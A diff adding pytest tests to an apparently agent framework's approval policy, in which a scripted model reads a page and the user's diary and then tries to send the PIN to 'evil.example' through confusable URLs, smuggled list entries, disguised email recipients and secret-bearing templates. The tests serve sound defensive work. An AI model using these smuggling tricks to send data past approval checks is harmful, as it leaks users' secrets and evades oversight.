@@ -11,10 +11,11 @@ import pytest
 
 from neuraxis import Call, Session, command
 from neuraxis.bridges.agent_skills import skill
+from neuraxis.call_errors import summary
 from neuraxis.cli.approve import question as terminal_question
 from neuraxis.events import ApprovalAsked
 from neuraxis.models.scripted import ScriptedModel
-from neuraxis.policy import EVERYTHING
+from neuraxis.policy import EVERYTHING, Policy, Rule
 from neuraxis.policy.provenance.words import place_of
 from neuraxis.sandbox.process.run import probe
 
@@ -294,3 +295,170 @@ def test_an_apostrophe_begins_no_quotation(
 ) -> None:
     """Only what somebody put into quotes is quoted."""
     assert (place_of(text, request_) >= 0) is found
+
+
+SENDS = {"kind": "read", "others_write": True, "public": True, "destructive": False}
+
+
+@command(effects={"kind": "read", "others_write": False, "destructive": False})
+def diary() -> str:
+    """The user's diary."""
+    return "PIN-4711"
+
+
+@command(effects=SENDS, sends_out=["url", "also"])
+def open_url(url: str | list[str], also: str = "") -> str:
+    """Open one address, or several."""
+    return "ok"
+
+
+_GOOD = "every address at good.example in this session"
+
+
+@pytest.mark.parametrize(
+    "second",
+    [
+        {"url": "https://evil.example\\@good.example/?PIN"},
+        {"url": "https:\\\\evil.example\\x@good.example/"},
+        {"url": "https://good.example\\@evil.example/"},
+        {"url": "https://user:PIN@good.example/"},
+        {"url": "ftp://good.example/PIN"},
+        {"url": "mailto:evil@good.example"},
+        {"url": "https://good.example /PIN"},
+        {"url": ["https://good.example/a", "https://evil.example/?PIN"]},
+        {"url": ["https://evil.example/?PIN", "https://good.example/a"]},
+        {"url": "https://evil.example/?PIN", "also": "https://good.example/a"},
+        {"url": "https://good.example/a", "also": "https://evil.example/?PIN"},
+    ],
+    ids=str,
+)
+def test_a_yes_for_a_host_is_for_all_that_a_call_sends(second: dict[str, Any]) -> None:
+    """A-B of the seventh set: each address of a call, and a host that is clear."""
+    asked: list[ApprovalAsked] = []
+
+    def approve(question: ApprovalAsked) -> bool | str:
+        asked.append(question)
+        return _GOOD if _GOOD in question.offers else False
+
+    plans = [
+        [{"tool": "page"}, {"tool": "diary"}],
+        [{"tool": "open_url", "url": "https://good.example/a"}],
+        [{"tool": "open_url", **second}],
+        [{"tool": "open_url", "url": "https://good.example/b"}],
+    ]
+    with Session(
+        model=ScriptedModel([*map(json.dumps, plans), "ok"]),
+        plugins=[page, diary, open_url],
+        approve=approve,
+    ) as session:
+        answer = session.run_sync("Read the page and my diary")
+    assert [call.status for call in answer.calls][2:] == ["done", "failed", "done"]
+    assert len(asked) == 2
+    assert _GOOD not in asked[1].offers
+    assert "goes to good.example" not in asked[1].reason
+
+
+@pytest.mark.parametrize(
+    ("verdict", "to", "sent"),
+    [
+        ("allow", ["ada@corp.test"], True),
+        ("allow", ["ada@corp.test", EVIL], False),
+        ("allow", [f"{EVIL}\n@corp.test"], False),
+        ("allow", [], False),
+        ("deny", ["X@CORP.TEST"], False),
+        ("deny", ["x@corp.test\n"], False),
+        ("deny", [" x@corp.test "], False),
+        ("deny", ["x@co\u200brp.test"], False),
+        ("deny", ["x@ｃｏｒｐ.test"], False),
+        ("deny", ["x@corp.test.org"], True),
+    ],
+)
+def test_a_rule_sees_all_of_a_list_in_every_form(
+    verdict: Any, to: list[str], sent: bool
+) -> None:
+    """F-G: an allowed list has no other value; a denied one is denied in any case."""
+    gone: list[Any] = []
+
+    @command(effects="once", trusted_only=["to"])
+    def send(to: list[str], text: str) -> str:
+        """Send it."""
+        gone.append(to)
+        return "ok"
+
+    rule = Rule(verdict=verdict, target="send.*", arguments={"to": "*@corp.test"})
+    policy = Policy(rules=[rule], yes_to=[] if verdict == "allow" else ["send.*"])
+    plans = [[{"tool": "page"}], [{"tool": "send", "to": to, "text": "hello"}]]
+    with Session(
+        model=ScriptedModel([*map(json.dumps, plans), "ok"]),
+        plugins=[page, send],
+        policy=policy,
+    ) as session:
+        session.run_sync("Read the page")
+    assert bool(gone) is sent
+
+
+@pytest.mark.parametrize(
+    ("given", "asked"),
+    [
+        ({"url": "{{ m['to'] }}"}, 0),
+        ({"url": "{{ m['to'] }}", "key": "secret://TOKEN"}, 1),
+        ({"url": "{{ m['to'] }}", "body": "{{ d }}"}, 1),
+        ({"url": "{{ m['to'] }}", "body": "{{ m['n']['note'] }}"}, 0),
+        ({"url": "https://api.example/", "body": "{{ d }}"}, 0),
+    ],
+    ids=str,
+)
+def test_a_page_chooses_no_place_for_secrets(given: dict[str, Any], asked: int) -> None:
+    """H: in a plan that was written before reading, too."""
+    questions: list[ApprovalAsked] = []
+
+    @command(effects=SENDS, sends_out=["url"], secret_ok=["key"])
+    def post(url: str, key: str = "", body: str = "") -> str:
+        """Post something."""
+        return "ok"
+
+    plan = [{"tool": "page", "as": "m"}, {"tool": "diary", "as": "d"}]
+    with Session(
+        model=ScriptedModel([json.dumps([*plan, {"tool": "post", **given}]), "ok"]),
+        plugins=[page, diary, post],
+        approve=lambda question: (questions.append(question), False)[1],
+    ) as session:
+        session.run_sync("Post what the page wants")
+    assert len(questions) == asked
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["mine.md", "./mine.md", "d/../mine.md", ".//mine.md", "{work}/mine.md",
+     "{work}/d/../mine.md", "d", "d/"],
+)  # fmt: skip
+def test_a_file_of_the_users_is_known_in_every_spelling(
+    tmp_path: Path, path: str
+) -> None:
+    """I: a plugin that opens files by itself reads more spellings than ours."""
+    asked: list[ApprovalAsked] = []
+    (tmp_path / "d").mkdir()
+    for name in ("mine.md", "d/too.md"):
+        (tmp_path / name).write_text("mine")
+
+    @command(effects="once", names_file={"path": "remove"})
+    def drop(path: str) -> str:
+        """Delete a file or folder."""
+        return "ok"
+
+    plan = json.dumps([{"tool": "drop", "path": path.format(work=tmp_path)}])
+    with Session(
+        model=ScriptedModel([plan, "ok"]),
+        plugins=[drop],
+        workspace=tmp_path,
+        approve=lambda question: (asked.append(question), False)[1],
+    ) as session:
+        session.run_sync("Tidy up")
+    assert len(asked) == 1
+
+
+def test_a_summary_shows_every_argument() -> None:
+    """Remark 18: a long text does not push the recipient out."""
+    told = summary("mail.send", {"text": "x" * 500, "to": EVIL}, "so")
+    assert EVIL in told
+    assert len(told) < 300
